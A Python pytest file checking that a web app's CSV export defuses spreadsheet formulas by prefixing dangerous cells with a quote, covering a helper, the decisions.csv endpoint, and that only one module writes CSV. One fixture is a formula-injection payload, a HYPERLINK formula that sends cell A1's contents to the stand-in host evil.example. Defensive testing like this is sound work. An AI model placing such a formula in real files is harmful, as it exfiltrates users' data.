"""Every CSV export goes through one writer that defuses spreadsheet formulas (issue 9, item 12)."""
import csv
import io

import pytest

from app.csv_export import csv_response, safe_cell
from tests.factories import make_official, make_project

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1, "Open")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", FORMULA])
def test_a_cell_a_spreadsheet_would_run_is_prefixed_with_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Bridge", "", " =not first", "a=b", 42, -5, None])
def test_other_cells_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_the_writer_escapes_every_cell_and_keeps_the_columns(app):
    with app.test_request_context():
        response = csv_response([{"a": "=1", "b": "plain"}], ["a", "b"], "x.csv")
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == "attachment; filename=x.csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert rows == [{"a": "'=1", "b": "plain"}]


def test_decisions_csv_carries_no_live_formula(client):
    official = make_official()
    project = make_project(official, publish=True, title=FORMULA)
    response = client.get("/decisions.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    row = next(r for r in rows if r["project_id"] == str(project.id))
    assert row["project_title"] == "'" + FORMULA
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())


def test_no_module_but_the_writer_writes_csv(app):
    """One CSV writer: a new export that writes CSV by hand fails here."""
    import pathlib

    root = pathlib.Path(app.root_path)
    writers = sorted(str(p.relative_to(root)) for p in root.rglob("*.py")
                     if "csv.writer" in p.read_text() or "csv.DictWriter" in p.read_text())
    assert writers == ["csv_export.py"]
